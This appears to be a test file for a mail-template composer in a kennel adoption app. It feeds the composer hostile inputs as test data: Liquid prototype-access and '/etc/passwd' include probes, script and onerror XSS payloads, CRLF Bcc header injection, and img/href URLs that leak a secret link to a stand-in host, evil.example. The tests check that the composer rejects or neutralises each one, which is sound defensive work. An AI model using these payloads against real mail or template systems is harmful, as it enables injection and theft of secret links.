import app from '@adonisjs/core/services/app'
import { MailComposer, MailTemplateError, problemLine, type MailSource } from '@pydotorg/platform/mail'
import { test } from '@japa/runner'
import { ADOPT_HTML, kennelMails } from './kennel_mails.js'

const DATA = { dog: 'Rex', link: '/kennel/adopt/k3y-of-nobody/' }
const LINK = 'https://kennel.example/kennel/adopt/k3y-of-nobody/'
const OWN: MailSource = { subject: 'Adopt {{ dog }}', html: ADOPT_HTML, text: null }

async function compose(source: Partial<MailSource>, data: Record<string, unknown> = {}) {
  const composer = await app.container.make(MailComposer)
  return composer.compose({ key: 'kennel.adopt', data: { ...DATA, ...data }, source: { ...OWN, ...source } })
}

const loop = (name: string) => `{% for ${name} in (1..9000) %}`

/** What is said of a source, whether or not it could be rendered. */
async function complaints(source: Partial<MailSource>): Promise<string[]> {
  try {
    return (await compose(source)).problems.map(problemLine)
  } catch (error) {
    if (error instanceof MailTemplateError && error.problem) return [problemLine(error.problem)]
    throw error
  }
}

test.group('What staff write in mails', (group) => {
  group.setup(() => kennelMails())

  test('reaches no code: {$self}')
    .with([
      '{{ dog.constructor }}',
      '{{ dog.__proto__ }}',
      '{{ dog.constructor.constructor }}',
      '{{ dog["constructor"] }}',
      '{% assign key = "constructor" %}{{ dog[key] }}',
      '{% for part in dog.__proto__ %}{{ part }}{% endfor %}',
      '{{ constructor }}',
      '{{ __proto__ }}',
      '{{ globalThis }}',
      '{{ this }}',
      '{{ toString }}',
    ])
    .run(async ({ assert }, attempt) => {
      const outcome = await compose({ html: `${ADOPT_HTML}<p>[${attempt}]</p>` }).catch((error: unknown) => error)
      if (outcome instanceof MailTemplateError) return assert.equal(outcome.problem?.part, 'html')
      assert.match((outcome as { html: string }).html, />\[\]</)
    })

  test('reads no file and takes no escaping off: {$self}')
    .with([
      '{% include "/etc/passwd" %}',
      '{% render "package.json" %}',
      '{% layout "package.json" %}',
      '{% capture x %}1{% endcapture %}',
      '{% raw %}{{ dog }}{% endraw %}',
      '{{ dog | raw }}',
      '{{ dog | json }}',
      '{{ dog | append: dog }}',
      '{{ "x" | date: "%Y" }}',
    ])
    .run(async ({ assert }, attempt) => {
      const [said] = await complaints({ html: `${ADOPT_HTML}\n<p>${attempt}</p>` })
      assert.match(said!, /^html, line \d: There is no (tag|filter) "\w+"/)
    })

  test('comes to an end: {name}')
    .with([
      { name: 'a long loop', attempt: '{% for i in (1..1000000000) %}{{ i }}{% endfor %}' },
      { name: 'loops in loops', attempt: `${loop('a')}${loop('b')}${loop('c')}{% endfor %}{% endfor %}{% endfor %}` },
      { name: 'a huge result', attempt: `${loop('a')}${loop('b')}${'x'.repeat(900)}{% endfor %}{% endfor %}` },
      { name: 'a huge source', attempt: 'x'.repeat(70_000) },
    ])
    .run(async ({ assert }, { attempt }) => {
      const [said] = await complaints({ html: attempt })
      assert.match(said!, /too much work|longer than/)
    })

  test('names a variable that is not there, its line and the closest one, also where no sample leads', async ({
    assert,
  }) => {
    assert.deepEqual(await complaints({ html: `${ADOPT_HTML}\n{% if note == "no" %}{{ dogg }}{% endif %}` }), [
      'html, line 5: There is no variable "dogg". Did you mean dog?',
    ])
    assert.deepEqual(await complaints({ subject: '{{ cat }}' }), [
      'subject, line 1: There is no variable "cat". There are dog, link, note.',
    ])
  })

  test('names the line of what is no Liquid, and filters and tags that are meant', async ({ assert }) => {
    assert.match((await complaints({ html: '<p>\n{% if dog %}' }))[0]!, /^html, line 2: It is not valid Liquid: .*if/)
    assert.match((await complaints({ html: '{{ dog | upcas }}' }))[0]!, /no filter "upcas"\. Did you mean upcase/)
    assert.match((await complaints({ text: '{% unles dog %}' }))[0]!, /^text, line 1: .*Did you mean unless/)
  })

  test('may not have {0}')
    .with([
      ['scripts', '<script>alert(1)</script>', '<script> is not for mails'],
      ['handlers', '<p onclick="alert(1)">x</p>', '<p> may not have "onclick"'],
      ['styles', '<p style="background:url(https://evil.example)">x</p>', '<p> may not have "style"'],
      ['frames', '<iframe src="https://evil.example"></iframe>', '<iframe> is not for mails'],
      ['forms', '<form action="https://evil.example"></form>', '<form> is not for mails'],
      ['code in links', '<a href="javascript:alert(1)">x</a>', 'is not absolute'],
      ['links to nowhere', '<a href="/x/">x</a>', 'is not absolute'],
      ['images of others', '<img src="https://evil.example/x.png" alt="">', 'is not of this site'],
      ['a document', '<!doctype kennel>', 'The frame has the doctype already'],
      ['open elements', '<p><strong>x</p>', '<strong> is not closed'],
    ])
    .run(async ({ assert }, [, html, said]) => {
      const [problem] = await complaints({ html: `${ADOPT_HTML}${html}` })
      assert.include(problem!, said!)
      assert.notInclude((await compose({ html: `${ADOPT_HTML}${html}` })).html, html!)
    })
})

test.group('Values in mails', (group) => {
  group.setup(() => kennelMails())

  test('are escaped in HTML and stay as they are in text', async ({ assert }) => {
    const dog = `<script>alert("x")</script> & 'Rex'`
    const { html, text, problems } = await compose({}, { dog, note: '<img src=x onerror=alert(1)>' })
    assert.deepEqual(problems, [])
    assert.notMatch(html, /<script>alert|<img src=x/)
    assert.include(html, '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp;')
    assert.include(text, dog)
  })

  test('that look like Liquid are not read as such', async ({ assert }) => {
    const { html, subject } = await compose({}, { dog: '{{ link }}{% include "x" %}' })
    assert.equal(subject, 'Adopt {{ link }}{% include "x" %}')
    assert.include(html, 'take {{ link }}{% include &quot;x&quot; %} home')
  })

  test('with lines make no other header of a subject', async ({ assert }) => {
    const { subject } = await compose({}, { dog: 'Rex\r\nBcc: all@example.org\u2028\u0000x' })
    assert.equal(subject, 'Adopt Rex Bcc: all@example.org x')
  })

  test('keep their lines where they are asked to, and nothing else', async ({ assert }) => {
    const { html } = await compose({ html: `${ADOPT_HTML}<p>{{ note | lines }}</p>` }, { note: 'a <b>\nb' })
    assert.match(html, />a &lt;b&gt;<br \/>\nb<\/p>/)
  })

  test('that do not fit are refused with a sentence', async ({ assert }) => {
    await assert.rejects(() => compose({}, { dogg: 'Rex' }), 'kennel.adopt has no variable "dogg". Did you mean dog?')
    await assert.rejects(() => compose({}, { dog: null }), 'kennel.adopt: dog is missing.')
    await assert.rejects(() => compose({}, { dog: 7 }), 'kennel.adopt: dog is of type text, and what was given is not.')
    const composer = await app.container.make(MailComposer)
    await assert.rejects(
      () => composer.compose({ key: 'kennel.adop', data: DATA }),
      'No plugin declares a mail "kennel.adop". Did you mean kennel.adopt?'
    )
  })
})

test.group('Secret links in mails', (group) => {
  group.setup(() => kennelMails())

  test('stand where their reader follows them', async ({ assert }) => {
    const { html, text, problems } = await compose({})
    assert.deepEqual(problems, [])
    assert.lengthOf(html.match(new RegExp(`href="${LINK}"`, 'g')) ?? [], 2)
    assert.match(text, new RegExp(`^Adopt:\\n${LINK}$`, 'm'))
    assert.notMatch(html, /secretlink/)
  })

  test('have to be kept', async ({ assert }) => {
    const missing = 'The secret link is missing, and without it the mail is of no use.'
    assert.deepEqual(await complaints({ html: '<p>{{ dog }}</p>' }), [`html: ${missing}`, `text: ${missing}`])
    assert.deepEqual(await complaints({ text: 'Take {{ dog }}.' }), [`text: ${missing}`])
    assert.deepEqual(await complaints({ html: '<p>{{ dog }}{% if false %}{{ link }}{% endif %}</p>' }), [
      `html: ${missing}`,
      `text: ${missing}`,
    ])
  })

  test('are given to nobody else: {$self}')
    .with([
      '<p><img src="https://evil.example/?{{ link }}" alt=""></p>',
      '<p><img src="{{ "/x/" | address }}" alt="{{ link }}"></p>',
      '<p><a href="https://evil.example/?{{ link }}">x</a></p>',
      '<p><a href="{{ link }}&x">x</a></p>',
      '<p>https://evil.example/?{{ link }}</p>',
      '<p>https://evil.example/?<strong>{{ link }}</strong></p>',
    ])
    .run(async ({ assert }, attempt) => {
      assert.isNotEmpty(await complaints({ html: ADOPT_HTML + attempt }))
      assert.notMatch((await compose({ html: ADOPT_HTML + attempt })).html, /(src|alt|href)="[^"]+k3y-of-nobody\/[^"]/)
    })

  test('are worth nothing to filters', async ({ assert }) => {
    const html = `${ADOPT_HTML}<p>{{ link | upcase }} {{ link | truncate: 20 }} {{ link | size }}</p>`
    const mail = await compose({ html })
    assert.notMatch(mail.html, /K3Y-OF-NOBODY/)
    assert.lengthOf(mail.html.match(/k3y-of-nobody/g) ?? [], 3)
  })

  test('stand in no subject, and in no list of mails', async ({ assert }) => {
    assert.deepEqual(await complaints({ subject: 'Adopt {{ link }}' }), [
      'subject: A secret link may not stand in the subject: lists of mails show it.',
    ])
    const { subject, html } = await compose({ subject: 'Adopt {{ link }}', html: `<p>{{ link }}</p>${ADOPT_HTML}` })
    assert.equal(subject, 'Adopt ')
    assert.notMatch(html, /<title>[^<]*k3y|display:none[^>]*>[^<]*k3y/)
  })
})
